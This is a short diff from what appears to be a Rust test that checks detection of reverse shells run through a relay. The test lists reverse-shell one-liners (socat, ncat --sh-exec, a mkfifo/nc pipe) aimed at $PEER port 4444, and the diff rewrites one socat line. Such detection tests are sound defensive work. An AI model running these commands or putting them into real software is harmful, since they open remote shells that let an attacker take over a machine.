@@ -62,7 +62,7 @@ subprocess.call([\"/bin/sh\", \"-i\"])'",
 fn a_shell_behind_a_relay_is_told() {
     needs_root!();
     let scripts = [
-        "socat TCP:$PEER:4444 EXEC:'bash -i',pty,stderr,setsid,ctty,sigint,sane || true",
+        "socat TCP:$PEER:4444 EXEC:/bin/sh,pipes,stderr || true",
         "ncat --sh-exec 'bash -i 2>&1' $PEER 4444 || true",
         "mkfifo f; cat f | sh -i 2>&1 | nc.traditional $PEER 4444 > f || true",
     ];
